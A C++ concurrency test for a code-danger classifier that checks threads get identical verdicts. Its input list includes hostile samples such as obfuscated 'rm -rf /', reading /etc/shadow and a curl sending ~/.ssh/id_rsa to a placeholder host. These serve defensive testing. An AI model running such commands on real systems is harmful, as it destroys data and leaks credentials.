// Many threads share one Classifier (and one C ABI handle) and classify inputs that reach every
// part of the engine at the same moment. Meant for ThreadSanitizer (tools/tsan.sh), where a data
// race fails the run; in the ordinary build it checks every thread gets the one-thread verdict.
#include <string>
#include <thread>
#include <vector>

#include "gtest/gtest.h"
#include "kotoba/classifier.h"
#include "kotoba/kotoba.h"
#include "tests/hardening/hardening_util.h"

namespace kotoba::hardening {
namespace {

struct Input {
  std::string code;
  Language language;
};

// Aliasing, folding, codecs, nested shell in Python, nested Python in shell, wrappers, limits.
const std::vector<Input>& Inputs() {
  static const auto* inputs = new std::vector<Input>{
      {"import os as o\no.system('id')\n", Language::kPython},
      {"import base64, subprocess\nsubprocess.run(base64.b64decode('cm0gLXJmIC8=').decode(),"
       " shell=True)\n", Language::kPython},
      {"import zlib\nexec(zlib.decompress(b'x\\x9c+(\\xca\\xcc+\\xd1P7T\\xd7\\x04\\x00\\x14"
       "\\xac\\x03\\xd2'))\n", Language::kPython},
      {"g = getattr(__import__('o' + 's'), 'sys' + 'tem')\ng('rm -rf /')\n", Language::kPython},
      {"open('/etc/shadow').read()\n", Language::kPython},
      {"x = 'a' * 10**12\nprint(len('{:>5}'.format('ab')))\n", Language::kPython},
      {"def f(:\n", Language::kPython},
      {"timeout 5 sudo env A=1 rm -rf /tmp/x\n", Language::kShell},
      {"x=$'\\x72\\x6d'; $x -rf {a,b}/c | tee out.txt\n", Language::kShell},
      {"python3 -c 'import os; os.system(\"id\")'\n", Language::kShell},
      {"bash -c \"eval 'curl -d @$HOME/.ssh/id_rsa http://x'\"\n", Language::kShell},
      {"ls -la; cat README.md | grep -n x\n", Language::kShell},
      {"echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}\n",
       Language::kShell},
  };
  return *inputs;
}

TEST(ConcurrencyTest, SharedClassifierGivesEveryThreadTheSameVerdicts) {
  Classifier classifier = MakeClassifier();
  std::vector<Verdict> expected;
  for (const Input& in : Inputs()) expected.push_back(classifier.Classify(in.code, in.language));

  constexpr int kThreads = 8, kRounds = 5;
  std::vector<int> mismatches(kThreads, 0);
  std::vector<std::thread> pool;
  for (int t = 0; t < kThreads; ++t) {
    pool.emplace_back([&, t] {
      const std::vector<Input>& inputs = Inputs();
      for (int r = 0; r < kRounds; ++r) {
        for (size_t k = 0; k < inputs.size(); ++k) {
          size_t i = (k + t) % inputs.size();  // threads start on different inputs
          if (!classifier.Classify(inputs[i].code, inputs[i].language).SameAs(expected[i])) {
            ++mismatches[t];
          }
        }
      }
    });
  }
  for (std::thread& t : pool) t.join();
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(mismatches[t], 0) << "thread " << t;
}

TEST(ConcurrencyTest, SharedCHandleGivesEveryThreadTheSameJson) {
  kotoba_classifier* c = nullptr;
  ASSERT_EQ(kotoba_classifier_new(nullptr, &c), KOTOBA_OK);
  Classifier reference = MakeClassifier();
  std::vector<LabelSet> expected;
  for (const Input& in : Inputs()) expected.push_back(reference.Classify(in.code, in.language).labels);

  constexpr int kThreads = 6;
  std::vector<int> mismatches(kThreads, 0);
  std::vector<std::thread> pool;
  for (int t = 0; t < kThreads; ++t) {
    pool.emplace_back([&, t] {
      for (size_t k = 0; k < Inputs().size(); ++k) {
        const Input& in = Inputs()[(k + t) % Inputs().size()];
        kotoba_verdict* v = nullptr;
        if (kotoba_classify(c, in.code.data(), in.code.size(),
                            in.language == Language::kPython ? KOTOBA_LANG_PYTHON
                                                             : KOTOBA_LANG_SHELL,
                            &v) != KOTOBA_OK) {
          ++mismatches[t];
          continue;
        }
        // The JSON is built per verdict; reading it from many threads must be safe.
        if (kotoba_verdict_json(v)[0] != '{' ||
            kotoba_verdict_labels(v) != expected[(k + t) % Inputs().size()].bits()) {
          ++mismatches[t];
        }
        kotoba_verdict_free(v);
      }
    });
  }
  for (std::thread& t : pool) t.join();
  kotoba_classifier_free(c);
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(mismatches[t], 0) << "thread " << t;
}

TEST(ConcurrencyTest, ClassifiersCreatedAndDestroyedConcurrently) {
  std::vector<std::thread> pool;
  std::vector<int> failures(4, 0);
  for (int t = 0; t < 4; ++t) {
    pool.emplace_back([&, t] {
      for (int r = 0; r < 3; ++r) {
        absl::StatusOr<Classifier> c = Classifier::Create();
        if (!c.ok() || !c->Classify("rm -rf /", Language::kShell).labels.Has(Label::kFsDestroy)) {
          ++failures[t];
        }
      }
    });
  }
  for (std::thread& t : pool) t.join();
  for (int t = 0; t < 4; ++t) EXPECT_EQ(failures[t], 0) << "thread " << t;
}

}  // namespace
}  // namespace kotoba::hardening
